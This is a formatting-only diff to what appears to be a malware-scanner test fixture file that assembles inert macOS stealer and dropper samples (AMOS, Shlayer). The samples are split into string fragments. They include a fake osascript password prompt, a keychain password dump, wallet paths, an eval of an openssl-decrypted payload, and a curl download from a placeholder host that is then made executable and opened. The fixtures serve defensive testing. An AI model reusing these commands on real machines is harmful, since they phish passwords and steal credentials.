@@ -16,7 +16,10 @@ def amos_macho() -> dict[str, bytes]:
             *a(
                 INERT_NOTE,
                 split("dscl /Local/Default -auth", "only "),
-                split("osascript -e 'display dialog \"macOS needs to access System Settings\" ", "default answer \"\" with hidden answer'"),
+                split(
+                    'osascript -e \'display dialog "macOS needs to access System Settings" ',
+                    'default answer "" with hidden answer\'',
+                ),
                 split("security 2>&1 > /dev/null find-generic-password -ga ", "'Chrome' | awk '{print $2}'"),
                 split("desk", "wallets/Electrum"),
                 split("File", "Grabber/"),
@@ -53,7 +56,9 @@ def shlayer_stage1() -> dict[str, bytes]:
             f"exit 0  # {INERT_NOTE}",
             split('cd "$(dirname "$BASH', '_SOURCE")"'),
             'fileDir="$(dirname "$(pwd -P)")"',
-            split('eval "$(openssl enc -base64 -d -aes-256-cbc -nosalt ', '-pass pass:2197042 <"$fileDir"/Resources/enc)"'),
+            split(
+                'eval "$(openssl enc -base64 -d -aes-256-cbc -nosalt ', '-pass pass:2197042 <"$fileDir"/Resources/enc)"'
+            ),
         )
     }
 
@@ -67,7 +72,7 @@ def shlayer_stage2() -> dict[str, bytes]:
             split('curl -f0L "http://', f'{HOST}/sd/?c=inert" >/dev/null 2>&1 >"$_t/i.tgz"'),
             'tar -xzf "$_t/i.tgz" -C "$_t"',
             split('chmod 777 "$_t"', "/*/Contents/MacOS/*"),
-            split('open -a "$_t"', '/*.app --args -s inert'),
+            split('open -a "$_t"', "/*.app --args -s inert"),
             split("killall Ter", "minal"),
         )
     }
@@ -77,7 +82,8 @@ def near_macho() -> dict[str, bytes]:
     return {
         "admin-helper-macho": macho(
             *a(
-                "osascript -e 'display dialog \"Enter your password to install the helper\" default answer \"\" with hidden answer'",
+                'osascript -e \'display dialog "Enter your password to install the helper" '
+                'default answer "" with hidden answer\'',
                 "security find-generic-password -ga 'Helper' -w",
                 "/usr/bin/dscl . -read /Users/admin",
                 "https://updates.example.org/helper/version",
